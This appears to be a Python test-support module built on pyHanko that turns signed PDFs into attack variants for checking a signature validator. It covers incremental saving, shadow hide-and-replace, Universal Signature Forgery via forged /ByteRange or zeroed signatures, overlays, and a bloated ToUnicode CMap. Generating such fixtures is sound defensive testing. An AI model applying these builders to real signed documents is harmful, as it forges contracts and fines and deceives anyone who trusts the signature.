"""Builders of attack files: each takes a signed PDF and returns it changed the way a published attack does."""

from __future__ import annotations

from io import BytesIO

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter


def _writer(data: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(BytesIO(data), strict=False)


def _out(w: IncrementalPdfFileWriter) -> bytes:
    buf = BytesIO()
    w.write(buf)
    return buf.getvalue()


def signed_range_flip(data: bytes) -> bytes:
    """Flip one byte of the page text inside the signed range (integrity attack)."""
    at = data.index(b"trang 1") if b"trang 1" in data else 200
    return data[:at] + bytes([data[at] ^ 0x01]) + data[at + 1:]


def incremental_content_change(data: bytes) -> bytes:
    """Incremental Saving Attack: a later revision replaces the page's content stream."""
    w = _writer(data)
    page_ref = w.find_page_for_modification(0)[0]
    page = page_ref.get_object()
    stream = generic.StreamObject(stream_data=b"BT /F1 24 Tf 72 720 Td (Tien phat: 1 ty dong) Tj ET")
    page[generic.NameObject("/Contents")] = w.add_object(stream)
    w.update_container(page)
    return _out(w)


def added_page(data: bytes) -> bytes:
    """A page added after signing."""
    w = _writer(data)
    w.insert_page(generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Page"),
        generic.NameObject("/MediaBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        generic.NameObject("/Contents"): w.add_object(generic.StreamObject(stream_data=b"")),
        generic.NameObject("/Resources"): generic.DictionaryObject(),
    }))
    return _out(w)


def overlay_annotation(data: bytes) -> bytes:
    """Overlay: a square annotation with an opaque appearance added over the page after signing."""
    w = _writer(data)
    page_ref = w.find_page_for_modification(0)[0]
    page = page_ref.get_object()
    annot = generic.DictionaryObject({
        generic.NameObject("/Type"): generic.NameObject("/Annot"),
        generic.NameObject("/Subtype"): generic.NameObject("/Square"),
        generic.NameObject("/Rect"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        generic.NameObject("/IC"): generic.ArrayObject([generic.FloatObject(1)] * 3),
        generic.NameObject("/P"): page_ref,
    })
    annots = page.get("/Annots")
    arr = generic.ArrayObject(list(annots) if annots is not None else [])
    arr.append(w.add_object(annot))
    page[generic.NameObject("/Annots")] = arr
    w.update_container(page)
    return _out(w)


def set_field_value(data: bytes, name: str, value: str) -> bytes:
    """Set the value of text field ``name`` (dotted for nested fields) in a new revision: fill it, or
    replace it (the shadow attack)."""
    w = _writer(data)
    stack = [(ref, "") for ref in w.root["/AcroForm"]["/Fields"]]
    while stack:
        ref, prefix = stack.pop()
        field = ref.get_object()
        part = field.get("/T")
        full = f"{prefix}.{part}" if prefix and part is not None else str(part or prefix)
        if full == name:
            field[generic.NameObject("/V")] = generic.TextStringObject(value)
            w.update_container(field)
            return _out(w)
        stack.extend((kid, full) for kid in field.get("/Kids", ()))
    raise LookupError(name)


def append_garbage(data: bytes) -> bytes:
    """Bytes appended after %%EOF that form no revision."""
    return data + b"\n% appended by someone\n1 0 obj (x) endobj\n"


def forge_byte_range(data: bytes, replacement: bytes) -> bytes:
    """Universal Signature Forgery / wrapping: overwrite the last /ByteRange with ``replacement`` (padded)."""
    import re

    last = list(re.finditer(rb"/ByteRange\s*\[[^\]]*\]", data))[-1]
    new = b"/ByteRange " + replacement
    new = new.ljust(last.end() - last.start(), b" ")
    assert len(new) == last.end() - last.start()
    return data[:last.start()] + new + data[last.end():]


def empty_contents(data: bytes) -> bytes:
    """Universal Signature Forgery: the last signature value zeroed (same length)."""
    start = data.rindex(b"/Contents <") + len(b"/Contents <")
    end = data.index(b">", start)
    return data[:start] + b"0" * (end - start) + data[end:]


# -- shadow attacks (Mainka et al., 2021): content prepared before signing, switched after ------------------
def prepare_shadow(data: bytes) -> bytes:
    """Before signing: page 1 draws a form XObject ``/Cover`` (a white box over the page's text), as the
    shadow attacker's document does."""
    w = _writer(data)
    page_ref = w.find_page_for_modification(0)[0]
    page = page_ref.get_object()
    cover = w.add_object(generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        generic.NameObject("/Resources"): generic.DictionaryObject(),
    }, stream_data=b"1 1 1 rg 20 795 320 25 re f"))
    resources = page["/Resources"]
    xobjects = generic.DictionaryObject(dict(resources.get("/XObject", {})))
    xobjects[generic.NameObject("/Cover")] = cover
    new_resources = generic.DictionaryObject(dict(resources))
    new_resources[generic.NameObject("/XObject")] = xobjects
    page[generic.NameObject("/Resources")] = new_resources
    draw = w.add_object(generic.StreamObject(stream_data=b"q /Cover Do Q"))
    contents = page.raw_get("/Contents")
    page[generic.NameObject("/Contents")] = generic.ArrayObject(
        [*(contents if isinstance(contents, generic.ArrayObject) else [contents]), draw])
    w.update_container(page)
    return _out(w)


def _rewrite_cover(data: bytes, content: bytes, resources: generic.DictionaryObject | None = None) -> bytes:
    w = _writer(data)
    page = w.find_page_for_modification(0)[0].get_object()
    ref = page["/Resources"]["/XObject"].raw_get("/Cover")
    stream = generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 595, 842)]),
        generic.NameObject("/Resources"): resources if resources is not None else generic.DictionaryObject(),
    }, stream_data=content)
    w.mark_update(ref)
    w.objects[(ref.generation, ref.idnum)] = stream
    return _out(w)


def shadow_hide(data: bytes) -> bytes:
    """Shadow hide: after signing, the cover object is rewritten in place, empty: the hidden text appears."""
    return _rewrite_cover(data, b"")


def shadow_hide_and_replace(data: bytes) -> bytes:
    """Shadow hide-and-replace: after signing, the cover object is rewritten to show other text."""
    font = generic.DictionaryObject({generic.NameObject("/Type"): generic.NameObject("/Font"),
                                     generic.NameObject("/Subtype"): generic.NameObject("/Type1"),
                                     generic.NameObject("/BaseFont"): generic.NameObject("/Helvetica")})
    res = generic.DictionaryObject({generic.NameObject("/Font"): generic.DictionaryObject(
        {generic.NameObject("/F9"): font})})
    return _rewrite_cover(data, b"1 1 1 rg 20 795 320 25 re f BT /F9 12 Tf 31 804 Td (Tien phat: 1 ty dong) Tj ET",
                          res)


def tounicode_cmap(*, ranges: int = 0, chars: int = 0, span: bytes = b"<0000> <FFFF> <0000>") -> bytes:
    """A ToUnicode CMap with ``ranges`` copies of the bfrange ``span`` and ``chars`` bfchar entries (the review's
    113 KB file: 5,400 ranges ``<0000> <FFFF> <0000>``)."""
    out = b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap\n"
    out += b"/CIDSystemInfo << /Registry (Adobe) /Ordering (UCS) /Supplement 0 >> def\n"
    out += b"1 begincodespacerange <0000> <FFFF> endcodespacerange\n"
    if ranges:
        out += b"%d beginbfrange\n" % ranges + (span + b"\n") * ranges + b"endbfrange\n"
    if chars:
        out += b"%d beginbfchar\n" % chars + b"".join(b"<%04X> <%04X>\n" % (i % 65536, 0x41 + i % 26)
                                                     for i in range(chars)) + b"endbfchar\n"
    return out + b"endcmap CMapName currentdict /CMap defineresource pop end end\n"


def field_with_appearance(data: bytes, name: str, content: bytes, cmap: bytes | None = None) -> bytes:
    """``data`` with an empty signature field ``name`` whose widget already has a normal appearance showing
    ``content`` in a Type0 font with the ToUnicode ``cmap`` (signing the field keeps an invisible field's
    appearance, so the appearance is then covered by the signature)."""
    from pyhanko.sign import fields

    w = _writer(data)
    font = generic.DictionaryObject({generic.NameObject("/Type"): generic.NameObject("/Font"),
                                     generic.NameObject("/Subtype"): generic.NameObject("/Type0"),
                                     generic.NameObject("/BaseFont"): generic.NameObject("/Hostile")})
    if cmap is not None:
        font[generic.NameObject("/ToUnicode")] = w.add_object(generic.StreamObject(stream_data=cmap))
    appearance = w.add_object(generic.StreamObject({
        generic.NameObject("/Type"): generic.NameObject("/XObject"),
        generic.NameObject("/Subtype"): generic.NameObject("/Form"),
        generic.NameObject("/BBox"): generic.ArrayObject([generic.NumberObject(n) for n in (0, 0, 200, 50)]),
        generic.NameObject("/Resources"): generic.DictionaryObject({generic.NameObject("/Font"): (
            generic.DictionaryObject({generic.NameObject("/F1"): font}))}),
    }, stream_data=content))
    fields.append_signature_field(w, fields.SigFieldSpec(name))
    node = w.root["/AcroForm"]["/Fields"][-1].get_object()
    while "/Kids" in node:
        node = node["/Kids"][0].get_object()
    node[generic.NameObject("/AP")] = generic.DictionaryObject({generic.NameObject("/N"): appearance})
    w.update_container(node)
    return _out(w)
